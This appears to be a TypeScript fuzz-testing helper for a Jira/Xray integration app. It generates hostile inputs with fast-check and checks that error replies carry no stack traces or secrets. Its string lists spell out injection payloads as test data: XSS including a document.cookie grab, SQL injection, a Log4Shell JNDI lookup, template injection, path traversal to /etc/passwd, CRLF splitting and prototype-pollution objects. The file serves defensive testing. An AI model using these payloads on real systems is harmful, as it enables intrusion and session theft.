/**
 * Shared generators and checks for the trust properties: hostile values (anything, JSON, huge and
 * odd strings, prototype-pollution keys, deep nesting), a mutator that damages a realistic value at
 * random places, and the error taxonomy as a runtime list.
 */
import fc from 'fast-check';
import { XRAY_REGIONS, type ErrorCode, type ErrorDto } from '../../../src/api';
import type { Http } from '../../../src/platform/ports';

/** Every code of the taxonomy (a missing or extra key is a compile error). */
const CODES: Record<ErrorCode, true> = {
  JIRA_UNAUTHORIZED: true,
  PROJECT_NOT_FOUND: true,
  ISSUE_NOT_FOUND: true,
  XRAY_AUTH_FAILED: true,
  XRAY_LICENSE_INVALID: true,
  XRAY_WRONG_REGION: true,
  XRAY_API_ERROR: true,
  KEY_EXPIRED: true,
  KEY_EXPIRING: true,
  SQAI_UNREACHABLE: true,
  SQAI_UNAUTHORIZED: true,
  SQAI_REJECTED: true,
  EGRESS_NOT_ALLOWED: true,
  NOT_CONFIGURED: true,
  RATE_LIMITED: true,
  VALIDATION: true,
  FORBIDDEN: true,
  INTERNAL: true,
  JIRA_UNAVAILABLE: true,
};
export const ERROR_CODES = new Set(Object.keys(CODES));

/** What a stack trace or a raw runtime error looks like inside a message. */
const STACKISH =
  /\n\s*at\s|\bat\s+\S+\s+\(|\(\/[^)]*:\d+:\d+\)|node_modules|\/work\/|\b(?:Type|Reference|Syntax|Range)Error\b|Cannot read propert|is not a function|undefined is not|Maximum call stack/;

export function looksLikeStack(text: string): boolean {
  return STACKISH.test(text);
}

/** Problems with an ErrorDto the UI would receive (empty = fine). */
export function errorDtoProblems(error: unknown): string[] {
  if (typeof error !== 'object' || error === null) return ['error is not an object'];
  const dto = error as Partial<ErrorDto> & Record<string, unknown>;
  const problems: string[] = [];
  if (typeof dto.code !== 'string' || !ERROR_CODES.has(dto.code))
    problems.push(`unknown code ${String(dto.code)}`);
  for (const field of ['message', 'remedy'] as const) {
    const value = dto[field];
    if (typeof value !== 'string' || value.length === 0) problems.push(`${field} is not a non-empty string`);
    else if (looksLikeStack(value))
      problems.push(`${field} looks like a stack or raw error: ${value.slice(0, 200)}`);
  }
  if (dto.fieldErrors !== undefined) {
    if (typeof dto.fieldErrors !== 'object' || dto.fieldErrors === null)
      problems.push('fieldErrors is not a record');
    else
      for (const [key, value] of Object.entries(dto.fieldErrors)) {
        if (typeof value !== 'string') problems.push(`fieldErrors.${key} is not a string`);
        else if (looksLikeStack(value))
          problems.push(`fieldErrors.${key} looks like a stack: ${value.slice(0, 200)}`);
      }
  }
  if (dto.suggestedRegion !== undefined && !(XRAY_REGIONS as readonly string[]).includes(dto.suggestedRegion))
    problems.push('suggestedRegion is not a region');
  if (dto.host !== undefined && typeof dto.host !== 'string') problems.push('host is not a string');
  return problems;
}

// ---------- hostile values ----------

export const HUGE_ASCII = 'x'.repeat(1_100_000);
export const HUGE_UNICODE = '\u{1F600}\u0301\u202E'.repeat(120_000);
export const HUGE_NO_SPACE = `A${'-'.repeat(600_000)}1`;

/** Keys that have bitten JavaScript code before. */
export const DANGEROUS_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  '',
  ' ',
  '0',
  '-1',
  'length',
  'NaN',
  '\u0000',
] as const;

const loneSurrogates = fc
  .array(fc.integer({ min: 0xd800, max: 0xdfff }), { minLength: 1, maxLength: 8 })
  .map((units) => String.fromCharCode(...units));

export const oddString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 1 },
  { arbitrary: loneSurrogates, weight: 1 },
  {
    arbitrary: fc.constantFrom(
      ...DANGEROUS_KEYS,
      '<script>alert(1)</script>',
      "'; DROP TABLE settings; --",
      '${jndi:ldap://evil/x}',
      '{{constructor.constructor("return process")()}}',
      '../../etc/passwd',
      'DEMO-1',
      'demo-1',
      '/Checkout/Generated',
      'https://evil.example.com',
      'javascript:alert(1)',
      '\u202Egnp.exe',
      '\r\n\r\nHTTP/1.1 200 OK',
      'Manual',
      '   Manual   ',
      'true',
      '1e400',
      '-0',
    ),
    weight: 2,
  },
  { arbitrary: fc.constantFrom(HUGE_ASCII, HUGE_UNICODE, HUGE_NO_SPACE), weight: 1 },
);

export const oddNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(
    0,
    -0,
    1,
    50,
    51,
    -1,
    1.5,
    NaN,
    Infinity,
    -Infinity,
    Number.MAX_SAFE_INTEGER + 2,
    1e308,
    5e-324,
  ),
);

export const oddScalar: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: oddString, weight: 4 },
  { arbitrary: oddNumber, weight: 2 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.bigInt(), weight: 1 },
  { arbitrary: fc.constantFrom(null, undefined), weight: 2 },
  { arbitrary: fc.date({ noInvalidDate: false }), weight: 1 },
);

/** Arrays or objects nested `depth` deep (a parser that recurses blindly overflows the stack). */
export const deeplyNested: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom('array', 'object', 'mixed'))
  .map(([depth, how]) => {
    let value: unknown = 'bottom';
    for (let level = 0; level < depth; level += 1) {
      const asArray = how === 'array' || (how === 'mixed' && level % 2 === 0);
      value = asArray ? [value] : { a: value };
    }
    return value;
  });

/** Objects carrying own `__proto__` / `constructor` keys, as `JSON.parse` builds them. */
export const pollutionObject: fc.Arbitrary<Record<string, unknown>> = fc
  .constantFrom(
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"__proto__":{"isAdmin":true},"force":true}',
    '{"__proto__":null}',
    '{"prototype":{"polluted":"yes"}}',
    '{"toString":"x","valueOf":1,"hasOwnProperty":false}',
  )
  .map((text) => JSON.parse(text) as Record<string, unknown>);

const keyArb: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...DANGEROUS_KEYS), weight: 1 },
  { arbitrary: fc.string({ maxLength: 12 }), weight: 2 },
);

/** Any value at all, weighted toward the shapes that break parsers. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  {
    arbitrary: fc.anything({
      maxDepth: 3,
      maxKeys: 6,
      key: keyArb,
      withBigInt: true,
      withBoxedValues: true,
      withDate: true,
      withMap: true,
      withSet: true,
      withNullPrototype: true,
      withObjectString: true,
      withSparseArray: true,
      withTypedArray: true,
      stringUnit: 'binary',
    }),
    weight: 5,
  },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 3 },
  { arbitrary: fc.dictionary(keyArb, oddScalar, { maxKeys: 5 }), weight: 2 },
  { arbitrary: fc.array(oddScalar, { maxLength: 5 }), weight: 1 },
  { arbitrary: oddScalar, weight: 2 },
  { arbitrary: deeplyNested, weight: 1 },
  { arbitrary: pollutionObject, weight: 1 },
  {
    arbitrary: fc.integer({ min: 1_000, max: 200_000 }).map((length) => Array.from({ length }, (_, i) => i)),
    weight: 1,
  },
);

/**
 * True for the payloads an empty-object schema may accept: an object with no keys, or any falsy
 * value (Forge's resolver runtime, `@forge/resolver`, hands `payload || {}` to the function).
 */
export function isEmptyPayload(payload: unknown): boolean {
  if (!payload) return true;
  if (typeof payload !== 'object' || Array.isArray(payload)) return false;
  return Object.keys(payload).length === 0;
}

// ---------- damaging a realistic value ----------

export type PathPart = string | number;

/** Every path into a JSON-like value (objects and arrays, 30 levels deep), root excluded, in a stable order. */
export function pathsOf(value: unknown, prefix: PathPart[] = [], out: PathPart[][] = []): PathPart[][] {
  if (prefix.length >= 30) return out;
  if (Array.isArray(value)) {
    value.forEach((item, index) => {
      out.push([...prefix, index]);
      pathsOf(item, [...prefix, index], out);
    });
  } else if (isPlainObject(value)) {
    for (const [key, item] of Object.entries(value)) {
      out.push([...prefix, key]);
      pathsOf(item, [...prefix, key], out);
    }
  }
  return out;
}

/** A plain or null-prototype object, from any realm (Jest's sandbox and `structuredClone` differ). */
function isPlainObject(value: unknown): value is Record<string, unknown> {
  if (typeof value !== 'object' || value === null) return false;
  const proto = Object.getPrototypeOf(value) as object | null;
  return proto === null || (Object.getPrototypeOf(proto) === null && !Array.isArray(value));
}

export type Damage =
  | { kind: 'replace'; value: unknown }
  | { kind: 'delete' }
  | { kind: 'addKey'; key: string; value: unknown }
  | { kind: 'repeat'; times: number };

export interface Mutation {
  /** Picks the path: index modulo the number of paths. */
  at: number;
  damage: Damage;
}

function containerAt(root: unknown, path: PathPart[]): unknown {
  let node = root;
  for (const part of path) node = (node as Record<PathPart, unknown>)[part];
  return node;
}

function cloneOf<T>(value: T): T {
  try {
    return structuredClone(value);
  } catch {
    return value; // not cloneable (e.g. a boxed symbol); mutated in place, which generators tolerate
  }
}

/**
 * A damage value as it goes into the damaged copy: its own deep copy, since generators hand out
 * the same instance for every case (`fc.constant([[]])`) and later damage may grow what it lands on.
 */
function inserted(value: unknown): unknown {
  return value instanceof RawJson ? value : cloneOf(value);
}

/**
 * Applies the mutations in order to a deep copy of `value` (a root with no paths is returned
 * unchanged). Neither `value` nor any damage value is changed, and nothing in the result is shared
 * (a repeated array item is a copy), so the damaged value's size adds up rather than multiplies.
 */
export function mutate<T>(value: T, mutations: Mutation[]): unknown {
  const root: unknown = cloneOf(value);
  for (const { at, damage } of mutations) {
    const paths = pathsOf(root);
    if (paths.length === 0) break;
    const path = paths[at % paths.length] ?? [];
    const parent = containerAt(root, path.slice(0, -1)) as Record<PathPart, unknown> | unknown[];
    const last = path[path.length - 1] as PathPart;
    const current = (parent as Record<PathPart, unknown>)[last];
    switch (damage.kind) {
      case 'replace':
        Object.defineProperty(parent, last, {
          value: inserted(damage.value),
          enumerable: true,
          writable: true,
          configurable: true,
        });
        break;
      case 'delete':
        if (Array.isArray(parent) && typeof last === 'number') parent.splice(last, 1);
        else delete (parent as Record<PathPart, unknown>)[last];
        break;
      case 'addKey':
        if (isPlainObject(current))
          Object.defineProperty(current, damage.key, {
            value: inserted(damage.value),
            enumerable: true,
            writable: true,
            configurable: true,
          });
        break;
      case 'repeat':
        if (Array.isArray(current) && current.length > 0) {
          const copies = Array.from({ length: damage.times }, (_, i): unknown =>
            inserted(current[i % current.length]),
          );
          current.push(...copies);
        }
        break;
    }
  }
  return root;
}

/** Wrong-typed stand-ins for a JSON node. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.constant(''),
  fc.constant(0),
  fc.constant(-1),
  fc.constant(true),
  fc.constant('null'),
  fc.string({ maxLength: 10 }),
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.constant(1e12),
  fc.constant([null]),
  fc.constant([[]]),
  fc.constant({ name: null }),
  fc.jsonValue({ maxDepth: 2 }),
);

/** Damage for a JSON answer from an upstream: mostly nulls, then wrong types, missing keys, extras. */
export const answerDamage: fc.Arbitrary<Damage> = fc.oneof(
  { arbitrary: fc.constant<Damage>({ kind: 'replace', value: null }), weight: 6 },
  { arbitrary: wrongType.map<Damage>((value) => ({ kind: 'replace', value })), weight: 4 },
  { arbitrary: fc.constant<Damage>({ kind: 'replace', value: [] }), weight: 2 },
  { arbitrary: fc.constant<Damage>({ kind: 'delete' }), weight: 2 },
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...DANGEROUS_KEYS, 'extra', 'issueId', 'total'), fc.jsonValue({ maxDepth: 2 }))
      .map<Damage>(([key, value]) => ({ kind: 'addKey', key, value })),
    weight: 1,
  },
  {
    arbitrary: fc.integer({ min: 1, max: 120 }).map<Damage>((times) => ({ kind: 'repeat', times })),
    weight: 1,
  },
);

export const mutations = (damage: fc.Arbitrary<Damage>, maxLength = 6): fc.Arbitrary<Mutation[]> =>
  fc.array(fc.record({ at: fc.nat(), damage }), { minLength: 1, maxLength });

/** Object.prototype has not been polluted (run before/after each case). */
export function prototypeIsClean(): boolean {
  const probe: Record<string, unknown> = {};
  return (
    probe.polluted === undefined &&
    probe.isAdmin === undefined &&
    Object.getOwnPropertyNames(Object.prototype).every((name) => name !== 'polluted' && name !== 'isAdmin')
  );
}

// ---------- upstream answers as text ----------

/** A value that `jsonText` writes as-is (e.g. nesting too deep for `JSON.stringify`). */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON nested `depth` deep, as text (`JSON.stringify` overflows the stack long before `JSON.parse` does). */
export const deepJsonText: fc.Arbitrary<RawJson> = fc
  .tuple(fc.integer({ min: 1_000, max: 30_000 }), fc.constantFrom('array', 'object'))
  .map(([depth, how]) =>
    how === 'array'
      ? new RawJson(`${'['.repeat(depth)}"bottom"${']'.repeat(depth)}`)
      : new RawJson(`${'{"a":'.repeat(depth)}"bottom"${'}'.repeat(depth)}`),
  );

type JsonFrame = { value: unknown } | { text: string };

/**
 * The JSON text of any value, written without recursion (so `deeplyNested` values work): what
 * `JSON.stringify` would write, except that a BigInt is written as its digits (a JSON number too
 * big for a double), a non-finite number or an undefined value as `null`, and a `RawJson` as its text.
 */
export function jsonText(value: unknown): string {
  const out: string[] = [];
  const stack: JsonFrame[] = [{ value }];
  const skipped = (item: unknown) =>
    item === undefined || typeof item === 'function' || typeof item === 'symbol';
  while (stack.length > 0) {
    const frame = stack.pop() as JsonFrame;
    if ('text' in frame) {
      out.push(frame.text);
      continue;
    }
    let item = frame.value;
    if (item instanceof RawJson) {
      out.push(item.text);
      continue;
    }
    if (item instanceof Number || item instanceof String || item instanceof Boolean) item = item.valueOf();
    if (
      typeof item === 'object' &&
      item !== null &&
      typeof (item as { toJSON?: unknown }).toJSON === 'function'
    )
      item = (item as { toJSON: () => unknown }).toJSON();
    if (item === null || skipped(item)) out.push('null');
    else if (typeof item === 'bigint') out.push(item.toString());
    else if (typeof item === 'number') out.push(Number.isFinite(item) ? String(item) : 'null');
    else if (typeof item === 'string' || typeof item === 'boolean') out.push(JSON.stringify(item));
    else if (Array.isArray(item)) {
      const items = Array.from({ length: item.length }, (_, index): unknown => (item as unknown[])[index]);
      stack.push({ text: ']' });
      items.reverse().forEach((entry, index) => {
        if (index > 0) stack.push({ text: ',' });
        stack.push({ value: entry });
      });
      stack.push({ text: '[' });
    } else {
      const record = item as Record<string, unknown>;
      const keys = Object.keys(record).filter((key) => !skipped(record[key]));
      stack.push({ text: '}' });
      keys.reverse().forEach((key, index) => {
        if (index > 0) stack.push({ text: ',' });
        stack.push({ value: record[key] });
        stack.push({ text: `${JSON.stringify(key)}:` });
      });
      stack.push({ text: '{' });
    }
  }
  return out.join('');
}

/**
 * `hostileValue` for an upstream answer: the same shapes, with its long arrays cut to 2,000 items
 * (still far beyond any limit of the app; a 200,000-item array costs seconds per 100 cases to encode).
 */
export const hostileAnswerValue: fc.Arbitrary<unknown> = hostileValue.map((value) =>
  Array.isArray(value) && value.length > 2_000 ? value.slice(0, 2_000) : value,
);

/** Markup an upstream may put in a title: it must stay text (stored as sent, never interpreted). */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(document.cookie)>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe src="//evil.example.com"></iframe>',
  '<b>bold</b> &amp; &lt;i&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '[link](javascript:alert(1))',
  '<style>*{display:none}</style>',
] as const;

export const markupString: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('', ' ', '  \t', '\n'),
    fc.constantFrom(...MARKUP),
    fc.string({ maxLength: 20 }),
    fc.constantFrom('', ' ', '\n\t '),
  )
  .map(([before, markup, rest, after]) => `${before}${markup}${rest}${after}`);

/** What is wrong with one resolver answer (empty = fine): a typed error without secrets, or data. */
export function answerProblems(result: unknown, secrets: readonly string[]): string[] {
  if (typeof result !== 'object' || result === null) return ['the answer is not an object'];
  const answer = result as Record<string, unknown>;
  let haystack: string;
  try {
    haystack = JSON.stringify(answer);
  } catch (error) {
    return [`the answer cannot be sent to the UI: ${String(error)}`];
  }
  const problems: string[] = [];
  for (const secret of secrets) if (haystack.includes(secret)) problems.push('a secret in the answer');
  if (answer.ok === true) return 'data' in answer ? problems : [...problems, 'ok without data'];
  if (answer.ok !== false) return [...problems, 'ok is neither true nor false'];
  problems.push(...errorDtoProblems(answer.error));
  const code = (answer.error as { code?: unknown } | null)?.code;
  if (code === 'INTERNAL') problems.push('INTERNAL (an unexpected exception inside)');
  return problems;
}

/** An `Http` that records every answer's status and text (to capture an upstream's real answers). */
export function capturingHttp(
  http: Http,
  seen: { url: string; body: string | undefined; status: number; text: string }[],
): Http {
  return {
    async fetch(url, init) {
      const response = await http.fetch(url, init);
      const text = await response.text();
      seen.push({ url, body: init.body, status: response.status, text });
      return { status: response.status, headers: response.headers, text: () => Promise.resolve(text) };
    },
  };
}
